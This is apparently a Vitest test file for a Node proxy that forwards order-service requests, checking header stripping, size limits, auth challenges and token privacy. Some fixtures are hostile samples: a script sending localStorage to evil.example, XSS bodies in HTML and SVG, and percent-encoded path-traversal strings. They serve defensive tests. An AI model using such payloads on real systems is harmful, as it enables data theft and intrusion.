import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer, request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { CONSOLE_CONFIG_PATH, orderServicePaths, sandboxPaths } from '../contract/paths.ts';
import { MAX_PROXIED_ANSWER_BYTES } from './proxy.ts';
import type { RunningServer } from './server.ts';
import { startServer } from './server.ts';
import { call } from '../sandbox/testing/http.ts';

// Proxy mode (D8): /psp/ goes to ORDER_SERVICE_URL unchanged, the sandbox routes are off. The
// "service" here is a plain node:http server that records what it got and answers what it is told.

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}

const seen: Seen[] = [];
interface Reply {
  status: number;
  contentType: string;
  body: string;
  headers?: Record<string, string>;
  /** Sent chunked, without Content-Length: this many bytes of 'x'. */
  streamBytes?: number;
}
let reply: Reply = { status: 200, contentType: 'application/json', body: '{}' };

const upstream = createServer((req: IncomingMessage, res: ServerResponse) => {
  const chunks: Buffer[] = [];
  req.on('data', (chunk: Buffer) => chunks.push(chunk));
  req.on('end', () => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
    res.writeHead(reply.status, { 'Content-Type': reply.contentType, 'X-Upstream-Secret': 'internal', ...reply.headers });
    if (reply.streamBytes === undefined) {
      res.end(reply.body);
      return;
    }
    const chunk = Buffer.alloc(1024 * 1024, 'x');
    let left = reply.streamBytes;
    const more = () => {
      while (left > 0) {
        left -= chunk.length;
        if (!res.write(chunk)) {
          res.once('drain', more);
          return;
        }
      }
      res.end();
    };
    res.on('error', () => undefined);
    more();
  });
});

let proxy: RunningServer;
let unreachable: RunningServer;
const logLines: string[] = [];

beforeAll(async () => {
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const address = upstream.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  proxy = await startServer({ port: 0, orderServiceUrl: `http://127.0.0.1:${port}/base/`, log: (l) => logLines.push(l) });
  // A port nothing listens on: the proxy's own port once it is closed would do, but 1 is never ours.
  unreachable = await startServer({ port: 0, orderServiceUrl: 'http://127.0.0.1:1', log: () => undefined });
});

afterAll(async () => {
  await proxy.close();
  await unreachable.close();
  await new Promise<void>((resolve) => upstream.close(() => resolve()));
});

describe('proxy mode', () => {
  test('a POST goes through with method, path, query, headers and body; the answer comes back unchanged', async () => {
    reply = { status: 201, contentType: 'application/json; charset=utf-8', body: '{"id":"from-upstream","weird":  true}' };
    const body = '{"order_external_id": "A-1",  "spacing": "kept"}';
    const result = await call(proxy.url, 'POST', `${orderServicePaths.orderCreate()}?debug=1`, {
      token: 'upstream-token',
      body,
      headers: { 'Content-Type': 'application/json', Accept: 'application/json', Cookie: 'session=no' },
    });
    expect(result.status).toBe(201);
    expect(result.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(result.text).toBe(reply.body);
    expect(result.headers.get('x-upstream-secret')).toBeNull();
    expect(result.headers.get('x-frame-options')).toBe('DENY');

    const request = seen.at(-1);
    expect(request).toMatchObject({ method: 'POST', url: '/base/psp/v2/order/?debug=1', body });
    expect(request?.headers).toMatchObject({ authorization: 'Token upstream-token', 'content-type': 'application/json', accept: 'application/json' });
    expect(request?.headers['cookie']).toBeUndefined();
  });

  test.each([
    [401, 'application/json', '{"detail":"Invalid token."}'],
    [409, 'application/json', '{"detail":"nope"}'],
    [400, 'application/problem+json; charset=utf-8', '{"title":"bad"}'],
  ])('status %i with JSON from the service is returned as it is', async (status, contentType, text) => {
    reply = { status, contentType, body: text };
    const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
    expect([result.status, result.headers.get('content-type'), result.text]).toEqual([status, contentType, text]);
    expect(result.headers.get('content-disposition')).toBeNull();
    expect(result.headers.get('cache-control')).toBe('no-store');
  });

  test.each([
    [200, 'text/html', '<script src="/psp/v2/order/x/"></script><h1>steal localStorage</h1>'],
    [404, 'text/html; charset=utf-8', '<h1>Not Found</h1>'],
    [200, 'application/javascript', 'fetch("https://evil.example/?" + JSON.stringify(localStorage))'],
    [500, 'text/plain', 'upstream broke'],
    [200, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ])('status %i with %s from the service: the text comes back as an inert download, never a page or a script', async (status, contentType, text) => {
    reply = { status, contentType, body: text };
    const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
    expect([result.status, result.text]).toEqual([status, text]);
    expect(result.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(result.headers.get('content-disposition')).toMatch(/^attachment/);
    expect(result.headers.get('x-content-type-options')).toBe('nosniff');
    // Both policies are enforced: ours, and the sandbox one that gives the answer no origin at all.
    expect(result.headers.get('content-security-policy')).toContain("sandbox; default-src 'none'");
    expect(result.headers.get('content-security-policy')).toContain("script-src 'self'");
  });

  test('a Basic or Digest challenge never reaches the browser (it would prompt for a password); a Token one does', async () => {
    for (const challenge of ['Basic realm="orders"', 'Digest realm="x", nonce="1"', 'Token, Basic realm="x"']) {
      reply = { status: 401, contentType: 'application/json', body: '{"detail":"no"}', headers: { 'WWW-Authenticate': challenge } };
      const result = await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
      expect(result.status).toBe(401);
      expect(result.headers.get('www-authenticate'), challenge).toBeNull();
    }
    reply = { status: 401, contentType: 'application/json', body: '{"detail":"no"}', headers: { 'WWW-Authenticate': 'Token' } };
    expect((await call(proxy.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' })).headers.get('www-authenticate')).toBe('Token');
  });

  test('an answer over the cap is a 502, not held in memory whole, with or without a Content-Length', async () => {
    const path = orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962');
    reply = { status: 200, contentType: 'application/json', body: '', streamBytes: MAX_PROXIED_ANSWER_BYTES + 2 * 1024 * 1024 };
    const streamed = await call(proxy.url, 'GET', path, { token: 't' });
    expect(streamed.status).toBe(502);
    expect(streamed.json).toEqual({ detail: `Order service answer larger than ${MAX_PROXIED_ANSWER_BYTES} bytes`, code: 'bad_gateway' });
    reply = { status: 200, contentType: 'application/json', body: 'x'.repeat(MAX_PROXIED_ANSWER_BYTES + 1) };
    expect((await call(proxy.url, 'GET', path, { token: 't' })).status).toBe(502);
    reply = { status: 200, contentType: 'application/json', body: `"${'x'.repeat(MAX_PROXIED_ANSWER_BYTES - 2)}"` };
    expect((await call(proxy.url, 'GET', path, { token: 't' })).status).toBe(200);
  });

  test('a path hiding a separator or a dot segment in percent-escapes is not forwarded', async () => {
    const count = seen.length;
    for (const path of ['/psp/v2/order/..%2f..%2fadmin/', '/psp/v2/order/%2e%2e/%2e%2e/admin', '/psp/v2/order/..%5Cadmin', '/psp/v2/%2E%2E%2Fadmin', '/psp/v2/order/x%00/']) {
      const result = await new Promise<number>((resolve, reject) => {
        const url = new URL(proxy.url);
        const req = httpRequest({ host: url.hostname, port: url.port, path, headers: { Authorization: 'Token t' } }, (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        });
        req.on('error', reject);
        req.end();
      });
      expect(result, path).toBe(404);
    }
    expect(seen.length).toBe(count);
  });

  test('the sandbox routes are off', async () => {
    for (const path of [sandboxPaths.orders(), sandboxPaths.checkout('3b241101-e2bb-4255-8caf-4136c566a962')]) {
      const result = await call(proxy.url, 'GET', path, { token: 't' });
      expect(result.status).toBe(404);
      expect(result.json).toEqual({ detail: 'Not found.', code: 'not_found' });
    }
  });

  test('the OpenAPI document is still served locally', async () => {
    const count = seen.length;
    expect((await call(proxy.url, 'GET', '/openapi.json')).json).toMatchObject({ openapi: '3.1.0' });
    expect(seen.length).toBe(count);
  });

  test('the console learns it is a proxy, and for which host, without a token; no user info or path leaks', async () => {
    const withSecret = await startServer({ port: 0, orderServiceUrl: 'https://user:secret@orders.example.com:8443/base/?k=v', log: () => undefined });
    try {
      const result = await call(withSecret.url, 'GET', CONSOLE_CONFIG_PATH);
      expect(result.status).toBe(200);
      expect(result.headers.get('cache-control')).toBe('no-cache');
      expect(result.json).toEqual({ mode: 'proxy', service_origin: 'https://orders.example.com:8443', service_host: 'orders.example.com:8443' });
      expect(result.text).not.toMatch(/secret|user|base|k=v/);
    } finally {
      await withSecret.close();
    }
  });

  test('a sandbox says it is one, and names the public development token only when it takes it', async () => {
    const sandbox = await startServer({ port: 0, db: ':memory:', log: () => undefined });
    const ownTokens = await startServer({ port: 0, db: ':memory:', tokens: ['a-token-of-our-own-1234'], log: () => undefined });
    try {
      expect((await call(sandbox.url, 'GET', CONSOLE_CONFIG_PATH)).json).toEqual({ mode: 'sandbox', development_token: 'dev-token' });
      expect((await call(sandbox.url, 'POST', CONSOLE_CONFIG_PATH)).status).toBe(405);
      const own = await call(ownTokens.url, 'GET', CONSOLE_CONFIG_PATH);
      expect(own.json).toEqual({ mode: 'sandbox' });
      expect(own.text).not.toContain('a-token-of-our-own');
    } finally {
      await sandbox.close();
      await ownTokens.close();
    }
  });

  test('an unreachable service -> 502 bad_gateway, the one allowed 5xx', async () => {
    const result = await call(unreachable.url, 'GET', orderServicePaths.orderRead('3b241101-e2bb-4255-8caf-4136c566a962'), { token: 't' });
    expect(result.status).toBe(502);
    expect(result.json).toEqual({ detail: 'Order service unreachable', code: 'bad_gateway' });
  });

  test('the token is never logged', () => {
    expect(logLines.length).toBeGreaterThan(0);
    for (const line of logLines) expect(line).not.toContain('upstream-token');
  });
});
